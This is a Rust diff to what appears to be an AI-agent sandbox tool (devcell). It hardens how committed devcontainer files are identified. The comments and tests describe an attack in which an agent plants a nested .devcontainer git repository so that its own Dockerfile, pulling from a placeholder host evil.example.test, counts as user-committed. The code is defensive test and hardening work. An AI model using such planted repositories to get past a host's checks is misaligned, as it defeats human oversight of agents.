@@ -199,16 +199,21 @@ fn committed_revisions(folder: &Path) -> Vec<String> {
 /// (`HEAD`, then the commit the user had before a fetch-back brought the agent's commits into
 /// that branch), `None` where that revision has no such file. Empty when there is no committed
 /// version at all. A host counts as committed only when every version names it.
-pub fn committed_texts(path: &Path) -> Vec<Option<String>> {
-    let Some(folder) = path.parent() else {
+///
+/// git finds the repository from `workspace` (the workspace folder), never from the file's own
+/// folder: a `.devcontainer/.git` the agent or a hook made there would otherwise be the
+/// repository whose `HEAD` counts as committed (attack 23, N10). A file outside `workspace`
+/// has no committed version.
+pub fn committed_texts(path: &Path, workspace: &Path) -> Vec<Option<String>> {
+    let workspace =
+        crate::security::host_path::resolve(workspace).unwrap_or_else(|_| workspace.to_path_buf());
+    let Ok(relative) = path.strip_prefix(&workspace) else {
         return Vec::new();
     };
-    let revisions = committed_revisions(folder);
+    let revisions = committed_revisions(&workspace);
+    let at = |rev: &str| committed_text_at(&workspace, relative, rev);
     match revisions.first() {
-        Some(head) if committed_text_at(path, head).is_some() => revisions
-            .iter()
-            .map(|rev| committed_text_at(path, rev))
-            .collect(),
+        Some(head) if at(head).is_some() => revisions.iter().map(|rev| at(rev)).collect(),
         _ => Vec::new(),
     }
 }
@@ -227,17 +232,17 @@ pub fn named_by_every(
     sets.fold(first, |all, set| all.intersection(&set).cloned().collect())
 }
 
-/// The content of `path`'s version in `rev` (`HEAD`, an object name) of the repository it is
-/// in, read with devcell's hardened host git ([`crate::config::hostgit::command`]: nothing the
+/// The content of the version of `relative` (a path below the folder `repository`) in `rev`
+/// (`HEAD`, an object name) of the repository git finds from `repository`, read with devcell's
+/// hardened host git ([`crate::config::hostgit::command`]: nothing the
 /// repository configures runs) as data (`cat-file`, no filter or text conversion), at most
 /// [`COMMITTED_MAX`] bytes. `None` when there is none: not a repository, no such revision, a
 /// file git does not track there, one too large, or git failing or not answering within its
 /// quick deadline. `path` is what the working tree's file resolves to (a link's target), so the
 /// committed file is the one read.
-pub fn committed_text_at(path: &Path, rev: &str) -> Option<String> {
-    let folder = path.parent()?;
-    let name = path.file_name()?.to_str()?;
-    let object = format!("{rev}:./{name}");
+pub fn committed_text_at(repository: &Path, relative: &Path, rev: &str) -> Option<String> {
+    let folder = repository;
+    let object = format!("{rev}:./{}", relative.to_str()?);
     let run = |args: &[&str]| -> Option<Vec<u8>> {
         let mut git = crate::config::hostgit::command(folder, &[]);
         git.args(args);
@@ -426,14 +431,22 @@ mod tests {
         };
         let file = dir.join("Dockerfile");
         std::fs::write(&file, "FROM busybox\n").unwrap();
-        assert_eq!(committed_text_at(&file, "HEAD"), None, "not a repository");
+        assert_eq!(
+            committed_text_at(&dir, Path::new("Dockerfile"), "HEAD"),
+            None,
+            "not a repository"
+        );
         git(&["init", "-q", "-b", "main"]);
-        assert_eq!(committed_text_at(&file, "HEAD"), None, "no HEAD");
+        assert_eq!(
+            committed_text_at(&dir, Path::new("Dockerfile"), "HEAD"),
+            None,
+            "no HEAD"
+        );
         git(&["add", "Dockerfile"]);
         git(&["commit", "-q", "-m", "c"]);
         std::fs::write(&file, "FROM evil.example.test/x:s3cr3t\n").unwrap();
         assert_eq!(
-            committed_text_at(&file, "HEAD").as_deref(),
+            committed_text_at(&dir, Path::new("Dockerfile"), "HEAD").as_deref(),
             Some("FROM busybox\n")
         );
         // the agent's commit brought in by a fetch-back, with the user's commit recorded: both
@@ -441,13 +454,13 @@ mod tests {
         let agents = "FROM busybox AS a\nFROM evil.example.test/x:s3cr3t\n".to_string();
         std::fs::write(&file, &agents).unwrap();
         git(&["commit", "-q", "-am", "agent"]);
-        assert_eq!(committed_texts(&file), vec![Some(agents.clone())]);
+        assert_eq!(committed_texts(&file, &dir), vec![Some(agents.clone())]);
         git(&[
             "update-ref",
             &format!("{BEFORE_AGENT}/heads/main"),
             "HEAD~1",
         ]);
-        let versions = committed_texts(&file);
+        let versions = committed_texts(&file, &dir);
         assert_eq!(
             versions,
             vec![Some(agents), Some("FROM busybox\n".to_string())]
@@ -462,6 +475,40 @@ mod tests {
         assert!(named_by_every(&[], hosts).is_empty());
         let untracked = dir.join("Other");
         std::fs::write(&untracked, "FROM busybox\n").unwrap();
-        assert_eq!(committed_text_at(&untracked, "HEAD"), None, "untracked");
+        assert_eq!(
+            committed_text_at(&dir, Path::new("Other"), "HEAD"),
+            None,
+            "untracked"
+        );
+        // a repository the agent made in a folder of the workspace is not the workspace's: its
+        // `HEAD` is no committed version (attack 23, N10)
+        let nested = dir.join(".devcontainer");
+        std::fs::create_dir_all(&nested).unwrap();
+        std::fs::write(nested.join("Dockerfile"), "FROM evil.example.test/x\n").unwrap();
+        let in_nested = |args: &[&str]| {
+            let out = std::process::Command::new("git")
+                .arg("-C")
+                .arg(&nested)
+                .args([
+                    "-c",
+                    "user.name=t",
+                    "-c",
+                    "user.email=t@t",
+                    "-c",
+                    "commit.gpgsign=false",
+                ])
+                .args(args)
+                .env("GIT_CONFIG_GLOBAL", "/dev/null")
+                .env("GIT_CONFIG_NOSYSTEM", "1")
+                .output()
+                .unwrap();
+            assert!(out.status.success(), "{out:?}");
+        };
+        in_nested(&["init", "-q", "-b", "main"]);
+        in_nested(&["add", "Dockerfile"]);
+        in_nested(&["commit", "-q", "-m", "agent"]);
+        assert!(committed_texts(&nested.join("Dockerfile"), dir).is_empty());
+        // and a file outside the workspace has none
+        assert!(committed_texts(&file, &nested).is_empty());
     }
 }
